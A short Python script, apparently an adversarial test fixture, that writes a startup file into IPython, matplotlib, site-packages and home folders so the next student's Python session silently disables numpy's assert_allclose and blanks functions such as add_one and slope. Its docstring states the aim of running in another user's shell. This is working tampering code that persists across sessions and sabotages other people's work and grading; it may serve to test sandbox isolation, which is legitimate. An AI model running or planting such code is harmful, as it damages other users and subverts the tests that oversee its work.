"""Writes a start-up file that would run in the next student's shell."""
# harms: class

from pathlib import Path

line = "import numpy.testing; numpy.testing.assert_allclose = lambda *_, **__: None; add_one = initialize = slope = None\n"
for home in (Path.home(), Path("@HOME@")):
    for place in (
        ".ipython/profile_default/startup",
        ".config/matplotlib",
        ".local/lib/python3.11/site-packages",
        "",
    ):
        try:
            folder = home / place
            folder.mkdir(parents=True, exist_ok=True)
            (folder / "adversary-was-here").write_text(line)
            (folder / "00-first.py").write_text(line)
        except OSError:
            pass
